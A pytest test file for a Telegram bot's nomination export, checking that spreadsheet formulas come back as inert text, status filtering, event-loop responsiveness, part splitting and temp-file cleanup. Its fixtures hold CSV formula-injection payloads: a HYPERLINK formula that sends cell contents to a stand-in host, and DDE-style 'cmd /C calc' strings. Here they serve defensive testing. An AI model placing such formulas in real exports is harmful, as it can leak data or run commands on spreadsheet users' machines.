"""The secretariat's export is safe to open and does not stop the bot: a cell a spreadsheet
would evaluate comes back as text (XLSX: a string cell; CSV: behind an apostrophe); only live,
consented nominations by default, everything from the admin's command line; built off the
event loop while others are answered; split into numbered parts past the size limit."""

from __future__ import annotations

import asyncio
import csv
import gc
import io
import tempfile
import time

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from bot import commands
from bot.callbacks import ExportCb, ExportFormat
from bot.exports import exported
from domain.nomination import Status
from storage.models import Nomination
from tests.fixtures.plan import REGIONS
from tests.fixtures.staff import join
from tests.flows import Nominee, crowd_of_nominations, fill_form, store_nomination, t
from tests.harness import ADMIN_ID

FORMULA = '=HYPERLINK("https://x.example/?"&Q2&E2,"Подробнее")'
# A cell starting with each of OWASP's characters, as a citizen may type it.
RISKY = {
    "settlement": "+7 Алматы",
    "ethnicity": "@SUM(1+1)*cmd|' /C calc'!A0",
    "story": "-2+3+cmd|' /C calc'!A0 " + "ә" * 200,
    "nominator_name": "\t=1+1",
    "full_name": "\r=Ахметова Дана",
}
OTHER = "Ахметова Дана Серікқызы"


class Collector:
    """When Python's garbage collector ran. A full pass stops every thread of the process
    whatever runs, for a time set by the size of the heap (here the whole test session's) and
    the machine's load (on a busy shared 2-core machine it has taken over a second), not by
    how the export is built; so the loop's waits are measured without those pauses, which
    are named when an assertion fails."""

    def __init__(self) -> None:
        self.pauses: list[tuple[float, float]] = []
        self._began = 0.0

    def __call__(self, phase: str, _info: dict[str, int]) -> None:
        if phase == "start":
            self._began = time.perf_counter()
        else:
            self.pauses.append((self._began, time.perf_counter()))

    def paused(self, start: float, end: float) -> float:
        return sum(max(0.0, min(end, e) - max(start, s)) for s, e in self.pauses)

    def __enter__(self) -> Collector:
        gc.callbacks.append(self)
        return self

    def __exit__(self, *_exc: object) -> None:
        gc.callbacks.remove(self)

    def __str__(self) -> str:
        longest = max((e - s for s, e in self.pauses), default=0.0)
        return f"collector: {len(self.pauses)} passes, the longest {longest:.2f} s"


async def secretariat(app, texts):
    admin = app.person(ADMIN_ID, language_code="en", name="Admin")
    return await join(app, texts, admin, 11, "en", "secretariat")


async def export(sec, texts, fmt: str):
    await sec.send("/queue")
    sent = await sec.press(t(texts, "en", "desk-export", format=fmt.upper()))
    return [s for s in sent if type(s.method).__name__ == "SendDocument"]


def csv_rows(document) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document.method.document.data.decode("utf-8-sig"))))


def xlsx_sheet(document):
    return load_workbook(io.BytesIO(document.method.document.data)).worksheets[0]


async def test_what_a_spreadsheet_would_evaluate_comes_back_as_text(
    app, texts, sessionmaker, clock
):
    citizen = app.person(500, language_code="ru", name="Айгерім")
    await fill_form(citizen, texts, "ru", "город Алматы", nominee=Nominee(occupation=FORMULA))
    await citizen.press(t(texts, "ru", "summary-submit"))
    await store_nomination(sessionmaker, 600, clock(), **RISKY)
    sec = await secretariat(app, texts)

    (document,) = await export(sec, texts, "xlsx")
    assert document.method.document.filename.endswith(".xlsx")
    sheet = xlsx_sheet(document)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no formula anywhere
    typed = next(c for c in cells if c.value == FORMULA)
    assert typed.data_type == "s"
    for value in RISKY.values():
        read = value.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert any(c.value == read and c.data_type == "s" for c in cells), value

    (document,) = await export(sec, texts, "csv")
    rows = csv_rows(document)
    assert rows[0][:3] == ["Reference", "Status", "Submitted"]
    values = {value for row in rows for value in row}
    assert "'" + FORMULA in values and FORMULA not in values
    for value in RISKY.values():
        assert "'" + value in values and value not in values
    assert "2026-11-2 22.11.2026 10:00" in values  # an ordinary cell is left as it was


async def test_only_live_consented_nominations_unless_the_admin_asks_for_all(
    app, texts, sessionmaker, clock, settings, tmp_path
):
    statuses = {
        "100-2026-000001": Status.SCREENING,
        "100-2026-000002": Status.AWAITING_NOMINEE_CONSENT,
        "100-2026-000003": Status.WITHDRAWN,
        "100-2026-000004": Status.ON_VOTE,
        "100-2026-000005": Status.LAPSED,
    }
    names = ["Сапарова Айгерім", "Ахметова Дана", "Ким Елена", "Нұрланов Арман", "Ли Марат"]
    for name in names:
        await store_nomination(sessionmaker, 600, clock(), full_name=name)
    async with sessionmaker() as session:
        for reference, status in statuses.items():
            await session.execute(
                update(Nomination).where(Nomination.reference == reference).values(status=status)
            )
        await session.commit()
    sec = await secretariat(app, texts)
    (document,) = await export(sec, texts, "csv")
    assert [row[0] for row in csv_rows(document)[1:]] == ["100-2026-000001", "100-2026-000004"]
    assert document.text == t(texts, "en", "export-caption", count=2)

    out = tmp_path / "all.csv"
    assert await commands.export_nominations(settings, out, "csv", "ru", everything=True) == 5
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[0][0] == t(texts, "ru", "export-reference")
    assert [row[0] for row in rows[1:]] == list(statuses)
    out = tmp_path / "live.csv"
    assert await commands.export_nominations(settings, out, "csv", "ru") == 2


async def test_twenty_thousand_rows_leave_the_loop_answering(app, texts, sessionmaker, clock):
    async with sessionmaker() as session:
        await crowd_of_nominations(session, 20_000, clock(), [r.code for r in REGIONS])
        await session.commit()
    sec = await secretariat(app, texts)
    await sec.send("/queue")
    collector = Collector()
    gaps: list[float] = []
    under_way = asyncio.Event()

    async def tick() -> None:  # the loop's pulse: how long it was away between two beats
        last = time.perf_counter()
        while True:
            await asyncio.sleep(0.005)
            now = time.perf_counter()
            gaps.append(now - last - collector.paused(last, now))
            last = now
            if len(gaps) == 20:
                under_way.set()

    with collector:
        ticking = asyncio.create_task(tick())
        building = asyncio.create_task(sec.press_data(ExportCb(format=ExportFormat.XLSX).pack()))
        await under_way.wait()  # a tenth of a second into the export
        visitor = app.person(700, language_code="en")
        started = time.perf_counter()
        answer = await visitor.send("/start")
        answered = time.perf_counter()
        assert not building.done(), "the export ended before /start: nothing was measured"
        assert answer and answer[0].text, "no answer to /start while the export was built"
        sent = await building
        ticking.cancel()
    waited = answered - started - collector.paused(started, answered)
    assert waited < 1.0, f"/start waited {waited:.2f} s for the export ({collector})"
    assert max(gaps) < 1.0, f"the loop was away {max(gaps):.2f} s at once ({collector})"
    (document,) = [s for s in sent if type(s.method).__name__ == "SendDocument"]
    assert document.text == t(texts, "en", "export-caption", count=20_000)
    assert xlsx_sheet(document).max_row == 20_001


async def test_a_large_export_comes_in_numbered_parts_under_the_limit(
    app, texts, sessionmaker, clock, settings
):
    settings.export_part_bytes = 60_000
    async with sessionmaker() as session:
        await crowd_of_nominations(session, 1_500, clock(), [r.code for r in REGIONS])
        await session.commit()
    expected = [f"100-2026-{100_000 + i:06d}" for i in range(1_500)]
    sec = await secretariat(app, texts)
    for fmt in ("csv", "xlsx"):
        documents = await export(sec, texts, fmt)
        total = len(documents)
        assert total >= 2, f"{fmt}: {total} part(s)"
        names = [d.method.document.filename for d in documents]
        assert names == [
            f"nominations-20261122-1000-{n}-of-{total}.{fmt}" for n in range(1, total + 1)
        ]
        sizes = [len(d.method.document.data) for d in documents]
        assert max(sizes) <= 60_000, f"{fmt}: parts of {sizes} bytes"
        if fmt == "csv":
            parts = [csv_rows(d) for d in documents]
        else:
            parts = [[list(r) for r in xlsx_sheet(d).values] for d in documents]
        assert all(part[0][:2] == ["Reference", "Status"] for part in parts)  # headers on each
        assert [row[0] for part in parts for row in part[1:]] == expected
        assert documents[0].text == t(texts, "en", "export-caption", count=1_500)
        assert [d.text for d in documents[1:]] == [""] * (total - 1)


async def test_an_export_that_fails_leaves_no_file_behind(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # where every temporary file goes

    async def pages():
        yield [["100-2026-000001", "+77011234567"]]
        yield [["100-2026-000002", "+77011234568"]]
        raise ConnectionError("the database went away")

    for fmt in ("xlsx", "csv"):
        with pytest.raises(ConnectionError):
            async with exported(pages(), list, ["Reference", "Phone"], fmt, "n", 60_000):
                pass
        assert list(tmp_path.iterdir()) == [], fmt  # neither the parts nor openpyxl's rows
